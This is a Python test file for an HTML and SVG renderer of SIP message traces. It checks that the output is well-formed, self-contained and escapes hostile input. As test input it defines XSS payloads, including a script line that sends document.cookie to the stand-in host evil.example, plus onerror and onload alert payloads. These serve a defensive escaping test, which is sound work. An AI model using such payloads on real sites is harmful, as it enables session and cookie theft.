"""SVG and HTML ladders: well-formed, self-contained, and hostile message text stays text."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from takeback.observe.ladder import Ladder, build_ladder
from takeback.observe.ladder_html import render_html, render_svg, write_html, write_svg
from takeback.observe.trace import SipTrace

from .scenario import (
    CONVERSATION,
    DEVICE,
    GENESYS,
    NAMES,
    START,
    in_dialog_from_device,
    message,
    recorded_trace,
)

SVG = "{http://www.w3.org/2000/svg}"
XHTML = "{http://www.w3.org/1999/xhtml}"
VOID = {"meta", "br", "link", "img", "input", "hr", "wbr"}

HOSTILE_HEADER = '<script>alert("x")</script> \' " & <img src=x onerror=alert(1)> ]]> \x00\x07 \u202e'
HOSTILE_BODY = "</pre></details><script>document.location='http://evil.example/'+document.cookie</script>"


class StrictNesting(HTMLParser):
    """Fails on any end tag that does not close the innermost open element."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes {self.stack[-1:]}"
        self.stack.pop()

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse_html(document: str) -> StrictNesting:
    parser = StrictNesting()
    parser.feed(document)
    parser.close()
    assert parser.stack == []
    return parser


def hostile_ladder() -> Ladder:
    trace = SipTrace()
    data = message(
        "INFO sip:127.0.0.1:5070 SIP/2.0",
        [("Via", "SIP/2.0/UDP 127.0.0.1:5080;branch=z9hG4bK-x"), ("From", "<sip:a@127.0.0.1>;tag=1"),
         ("To", "<sip:b@127.0.0.1>;tag=2"), ("Call-ID", "<script>cid</script>"), ("CSeq", "1 INFO"),
         ("Subject", HOSTILE_HEADER), ("x-inin-cnv", "<b>bold</b>"), ("Content-Type", "text/plain")],
        HOSTILE_BODY,
    )  # fmt: skip
    trace.record("out", "UDP", DEVICE, GENESYS, data, timestamp=START)
    trace.record("out", "UDP", DEVICE, GENESYS, b"<svg onload=alert(1)>\r\n\r\n", timestamp=START + 1)
    return build_ladder(trace, {DEVICE: "<i>device</i>", GENESYS: 'gen"esys'})


@pytest.fixture
def ladder() -> Ladder:
    return build_ladder(recorded_trace(), NAMES)


def test_html_is_well_formed_and_xml_parseable(ladder: Ladder) -> None:
    document = render_html(ladder, title="take-back", generated=START)
    parsed = parse_html(document)
    assert document.startswith("<!DOCTYPE html>")
    root = ET.fromstring(document.split("\n", 1)[1])  # XHTML-compatible markup
    assert root.tag == f"{XHTML}html"
    items = root.findall(f".//{XHTML}ol/{XHTML}li")
    assert [item.get("id") for item in items] == [f"msg-{number}" for number in range(1, 13)]
    assert all(item.find(f"{XHTML}details/{XHTML}pre") is not None for item in items)
    links = [attrs.get("href") for tag, attrs in parsed.tags if tag == "a"]
    assert links == [f"#msg-{number}" for number in range(1, 13)]


def test_svg_is_a_standalone_document_with_one_tooltip_per_arrow(ladder: Ladder, tmp_path: Path) -> None:
    path = write_svg(tmp_path / "ladder.svg", ladder, title="take-back")
    root = ET.parse(path).getroot()
    assert root.tag == f"{SVG}svg"
    groups = [group for group in root.iter(f"{SVG}g") if "arrow" in (group.get("class") or "").split()]
    assert len(groups) == 12
    titles = [group.find(f"{SVG}title") for group in groups]
    assert all(title is not None and title.text for title in titles)
    first = titles[1].text or ""  # type: ignore[union-attr]
    assert first.startswith("#2 +0.010s genesys → device")
    assert f"x-inin-cnv: {CONVERSATION}" in first and "m=audio 20000 RTP/AVP" in first
    assert "retrans" in (groups[4].get("class") or "")
    labels = [text.text for text in root.iter(f"{SVG}text") if text.get("class") == "label"]
    assert labels[0] == "INVITE (SDP) · CSeq 1" and labels[4] == "[retrans] INVITE (SDP) · CSeq 2"
    party_names = [text.text for group in root.iter(f"{SVG}g") if group.get("class") == "party"
                   for text in group.iter(f"{SVG}text")]  # fmt: skip
    assert party_names == ["caller", "genesys", "device"]


def test_outputs_are_self_contained(ladder: Ladder) -> None:
    document = render_html(ladder)
    lowered = document.lower()
    assert "<script" not in lowered and "<link" not in lowered and " src=" not in lowered
    assert "url(" not in lowered and "@import" not in lowered
    external = [word for word in document.split('"') if word.startswith(("http://", "https://", "//"))]
    assert external == ["http://www.w3.org/1999/xhtml", "http://www.w3.org/2000/svg"]


def test_hostile_message_text_is_escaped_everywhere(tmp_path: Path) -> None:
    ladder = hostile_ladder()
    document = render_html(ladder, title="<title>x</title>")
    parsed = parse_html(document)
    assert [tag for tag, _ in parsed.tags if tag in {"script", "img", "i"}] == []
    assert sum(1 for tag, _ in parsed.tags if tag == "svg") == 1  # ours, not the message's
    assert "<script" not in document.lower() and "<img" not in document and "<i>" not in document
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in document
    assert "&lt;/pre&gt;&lt;/details&gt;&lt;script&gt;" in document
    assert "\x00" not in document and "\x07" not in document and "\u202e" not in document
    assert "\\x00\\x07" in document and "\\u202e" in document
    text = "".join(parsed.text)
    assert HOSTILE_BODY in text  # shown to the reader as text, verbatim
    ET.fromstring(document.split("\n", 1)[1])
    svg_path = write_svg(tmp_path / "hostile.svg", ladder)
    root = ET.parse(svg_path).getroot()
    assert [element.tag for element in root.iter() if "script" in element.tag or "img" in element.tag] == []
    write_html(tmp_path / "hostile.html", ladder)
    assert (tmp_path / "hostile.html").read_text(encoding="utf-8").count("<script") == 0


def test_svg_without_notes_is_narrower(ladder: Ladder) -> None:
    with_notes = ET.fromstring(render_svg(ladder))
    without = ET.fromstring(render_svg(ladder, notes=False))
    assert float(without.get("width") or 0) < float(with_notes.get("width") or 0)
    assert not [text for text in without.iter(f"{SVG}text") if (text.get("class") or "").startswith("note")]


def test_empty_ladder_still_makes_valid_documents() -> None:
    empty = build_ladder([])
    parse_html(render_html(empty))
    ET.fromstring(render_svg(empty))


def test_self_loop_and_unparsed_arrows_render() -> None:
    trace = SipTrace()
    trace.record("out", "UDP", DEVICE, DEVICE, in_dialog_from_device("OPTIONS", 1), timestamp=START)
    trace.record("out", "UDP", DEVICE, GENESYS, b"\xff\xfe garbage", timestamp=START + 1)
    root = ET.fromstring(render_svg(build_ladder(trace, NAMES)))
    assert any(element.tag == f"{SVG}path" for element in root.iter())
    classes = [group.get("class") for group in root.iter(f"{SVG}g") if "arrow" in (group.get("class") or "")]
    assert classes == ["arrow request", "arrow unparsed"]
